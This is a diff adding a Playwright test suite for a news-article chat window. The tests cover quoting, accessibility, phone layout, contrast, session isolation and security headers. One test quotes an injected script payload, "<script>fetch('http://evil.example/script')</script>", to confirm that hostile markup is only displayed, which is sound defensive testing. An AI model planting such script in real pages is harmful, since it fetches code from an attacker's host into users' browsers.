@@ -1,0 +1,260 @@
+"""The chat window in a real browser: what a reader sees, can reach by keyboard, and is safe from."""
+
+import re
+import shutil
+import socket
+import threading
+import time
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from tests.chat_cases import HOSTILE, PAYLOADS, SEED, WordAsker, quote
+
+CHROMIUM = shutil.which("chromium")
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(CHROMIUM is None, reason="no chromium here; on Debian: apt-get install chromium"),
+]
+
+MISSING = "How many people are missing?"
+TOLL = "And the civilian toll?"
+UNKNOWN = "Will it rain in Berlin?"
+CONTRASTS = """() => {
+  const channels = (colour) => colour.match(/[\\d.]+/g).map(Number);
+  const linear = (c) => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
+  const luminance = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
+  const behind = (element) => {
+    const colour = channels(getComputedStyle(element).backgroundColor);
+    return colour.length === 3 || colour[3] === 1 ? colour : behind(element.parentElement);
+  };
+  const own = (element) => [...element.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
+  const seen = [...document.querySelectorAll("#masthead *, #talk *, #evidence *")].filter((e) => e.checkVisibility());
+  return seen.filter((e) => own(e) && !e.closest(".unseen, .sr-only")).map((e) => {
+    const [a, b] = [luminance(channels(getComputedStyle(e).color)), luminance(behind(e))].sort((x, y) => y - x);
+    return [`${e.tagName} ${e.className}`, (a + 0.05) / (b + 0.05)];
+  });
+}"""
+
+
+@pytest.fixture(scope="module")
+def asker() -> WordAsker:
+    return WordAsker(SEED, HOSTILE)
+
+
+@pytest.fixture(scope="module")
+def address(asker: WordAsker) -> Iterator[str]:
+    import uvicorn
+    from fastapi import FastAPI
+
+    from rag.chat.window import mount_window
+
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    server = uvicorn.Server(uvicorn.Config(mount_window(FastAPI(), asker), port=port, log_level="error"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 30
+    while not server.started and time.monotonic() < deadline:
+        time.sleep(0.05)
+    yield f"http://127.0.0.1:{port}/"
+    server.should_exit = True
+    thread.join(10)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+@pytest.fixture
+def page(browser: Browser, address: str) -> Iterator[Page]:
+    yield from visit(browser, address, 1280)
+
+
+@pytest.fixture
+def phone(browser: Browser, address: str) -> Iterator[Page]:
+    yield from visit(browser, address, 390)
+
+
+def visit(browser: Browser, address: str, width: int) -> Iterator[Page]:
+    """A page in a browser of its own; a dialog, an error in a script or a request to elsewhere fails the test."""
+    trouble: list[str] = []
+    context = browser.new_context(viewport={"width": width, "height": 844}, reduced_motion="reduce")
+    page = context.new_page()
+    page.on("dialog", lambda dialog: (trouble.append(dialog.message), dialog.dismiss()))
+    page.on("pageerror", lambda error: trouble.append(str(error)))
+    page.on("request", lambda request: None if belongs(request.url, address) else trouble.append(request.url))
+    page.goto(address)
+    expect(page.get_by_role("button", name=MISSING)).to_be_visible(timeout=20_000)
+    expect(page.locator(".evidence")).to_be_attached()
+    yield page
+    context.close()
+    assert not trouble
+
+
+def belongs(url: str, address: str) -> bool:
+    return url.startswith((address, "data:", "blob:"))
+
+
+def ask(page: Page, question: str, turn: int) -> None:
+    page.get_by_label("Your question").fill(question)
+    page.get_by_role("button", name="Ask", exact=True).click()
+    expect(page.locator(f'[data-state="{turn}-done"]')).to_be_attached(timeout=10_000)
+
+
+def fits(page: Page) -> bool:
+    return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
+
+
+def test_the_first_example_is_answered_with_the_quote_marked_in_its_article(page: Page) -> None:
+    page.get_by_role("button", name=MISSING).click()
+    bubble = page.locator(".quote").first
+    expect(bubble.locator("blockquote")).to_have_text(quote(SEED, 2).text)
+    expect(bubble.locator(".number")).to_have_text("1")
+    expect(page.locator("mark.current[data-keys='1-1']")).to_have_text(quote(SEED, 2).text)
+    expect(page.locator("mark.current[data-keys='1-1']")).to_be_in_viewport()
+    expect(page.locator(".evidence .number.current")).to_have_text("1")
+    expect(bubble.locator(".who")).to_contain_text("said Alexei Tsukanov, the region’s Prosecutor General")
+
+
+def test_a_later_answer_counts_on_and_an_earlier_number_still_leads_to_its_place(page: Page) -> None:
+    ask(page, MISSING, 1)
+    ask(page, TOLL, 2)
+    expect(page.locator(".evidence .number.current")).to_have_text("2")
+    expect(page.locator(".read-as")).to_contain_text("I read this as:")
+    page.get_by_role("button", name="Quote 1, show in the article").click()
+    expect(page.locator(".evidence .number.current")).to_have_text("1")
+    expect(page.locator("mark.current")).to_have_text(quote(SEED, 2).text)
+
+
+def test_a_question_without_an_answer_gets_closest_sentences_that_are_not_answers(page: Page) -> None:
+    ask(page, UNKNOWN, 1)
+    expect(page.locator(".statement")).to_have_text("The article does not say.")
+    expect(page.locator(".closest h3")).to_have_text("Closest sentences, not answers")
+    expect(page.locator("mark.current")).to_have_count(0)
+    expect(page.locator("mark.near")).to_have_text(quote(SEED, 1).text)
+
+
+def test_what_articles_say_does_nothing(page: Page) -> None:
+    ask(page, "Is there a harmless note?", 1)
+    shown = page.locator(".conversation").inner_text() + page.locator(".evidence").inner_text()
+    assert all(shown.count(payload) >= 2 for payload in PAYLOADS if "!" not in payload)
+    assert (
+        page.locator(".conversation, .evidence").locator("script, img, svg, iframe, style, link, details").count() == 0
+    )
+    assert page.locator(".evidence a").count() == 0
+    page.locator(".number").first.click()
+
+
+def test_a_question_that_is_markup_is_only_shown(page: Page) -> None:
+    ask(page, "".join(PAYLOADS), 1)
+    expect(page.locator(".question")).to_contain_text("<script>fetch('http://evil.example/script')</script>")
+
+
+def test_an_empty_question_changes_nothing(page: Page) -> None:
+    page.get_by_label("Your question").fill("   ")
+    page.get_by_label("Your question").press("Enter")
+    page.wait_for_timeout(500)
+    expect(page.get_by_role("button", name=MISSING)).to_be_visible()
+
+
+def test_a_pasted_book_and_a_failure_are_each_one_calm_sentence(page: Page) -> None:
+    ask(page, "x" * 1_000_000, 1)
+    expect(page.locator(".statement").last).to_have_text("The question has 1,000,000 characters; ask about one thing.")
+    ask(page, "Please break", 2)
+    expect(page.locator(".statement").last).to_contain_text("nothing was lost")
+    ask(page, MISSING, 3)
+    expect(page.locator(".quote blockquote")).to_have_text(quote(SEED, 2).text)
+
+
+def test_asking_reading_and_coming_back_work_by_keyboard(page: Page) -> None:
+    expect(page.get_by_label("Your question")).to_be_focused()
+    page.keyboard.type(MISSING)
+    page.keyboard.press("Enter")
+    expect(page.locator('[data-state="1-done"]')).to_be_attached()
+    page.keyboard.press("Shift+Tab")
+    expect(page.locator(".quote .number")).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("button", name="Quote 1, back to the answer")).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(page.locator(".quote .number")).to_be_focused()
+
+
+def test_every_control_has_a_name_and_the_two_sides_are_labelled(page: Page) -> None:
+    ask(page, MISSING, 1)
+    for control in page.get_by_role("button").all() + page.get_by_role("textbox").all():
+        expect(control).to_have_accessible_name(re.compile(r"\w"))
+    expect(page.get_by_role("log", name="Conversation")).to_be_visible()
+    expect(page.get_by_role("region", name="Evidence: the articles that are quoted")).to_be_visible()
+
+
+def test_on_a_phone_a_number_opens_the_article_over_the_conversation_and_there_is_a_way_back(phone: Page) -> None:
+    ask(phone, MISSING, 1)
+    expect(phone.locator("#evidence")).to_be_hidden()
+    for way_back in (lambda: phone.get_by_role("button", name="Back to the conversation").click(), phone.go_back):
+        phone.get_by_role("button", name="Quote 1, show in the article").click()
+        expect(phone.locator("mark.current")).to_be_in_viewport()
+        assert fits(phone)
+        way_back()
+        expect(phone.locator("#evidence")).to_be_hidden()
+        expect(phone.locator(".quote .number")).to_be_visible()
+
+
+def test_nothing_scrolls_sideways_on_a_phone(phone: Page) -> None:
+    assert fits(phone)
+    ask(phone, "Is there a harmless note?", 1)
+    ask(phone, "w" * 300, 2)
+    assert fits(phone)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_stands_out_from_what_is_behind_it(page: Page, scheme: str) -> None:
+    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
+    page.reload()
+    expect(page.get_by_role("button", name=MISSING)).to_be_visible(timeout=20_000)
+    dark = page.evaluate("getComputedStyle(document.querySelector('.gradio-container')).backgroundColor")
+    assert dark == ("rgb(22, 22, 20)" if scheme == "dark" else "rgb(251, 250, 247)")
+    ask(page, MISSING, 1)
+    ask(page, UNKNOWN, 2)
+    contrasts = page.evaluate(CONTRASTS)
+    assert len(contrasts) > 20
+    assert [found for found in contrasts if found[1] < 4.5] == []
+
+
+def test_two_tabs_do_not_mix(page: Page, browser: Browser, address: str, asker: WordAsker) -> None:
+    ask(page, MISSING, 1)
+    for other in visit(browser, address, 1280):
+        ask(other, TOLL, 1)
+        expect(other.locator(".quote .number")).to_have_text("1")
+        assert asker.asked[-1].history == ()
+    ask(page, TOLL, 2)
+    assert asker.asked[-1].history == (MISSING,)
+
+
+def test_the_named_endpoint_returns_the_answer_object_and_is_the_only_one_listed(address: str) -> None:
+    from gradio_client import Client
+    from gradio_client.exceptions import AppError
+
+    client = Client(address, verbose=False)
+    assert list(client.view_api(return_format="dict", print_info=False)["named_endpoints"]) == ["/ask"]
+    assert client.predict(MISSING, api_name="/ask")["quotes"][0]["text"] == quote(SEED, 2).text
+    assert "after: " + MISSING in client.predict(TOLL, [MISSING], api_name="/ask")["standalone_question"]
+    for question, history in (("x" * 3000, []), (5, []), (MISSING, [5]), (MISSING, "earlier")):
+        with pytest.raises(AppError, match="question"):
+            client.predict(question, history, api_name="/ask")
+
+
+def test_every_page_carries_the_security_headers_and_uploads_are_refused(address: str) -> None:
+    import httpx
+
+    headers = httpx.get(address).headers
+    assert "default-src 'self'" in headers["content-security-policy"]
+    assert headers["x-content-type-options"] == "nosniff"
+    refused = httpx.post(f"{address}gradio_api/upload", files={"files": ("a.txt", b"x" * 10_000)})
+    assert refused.status_code == 413
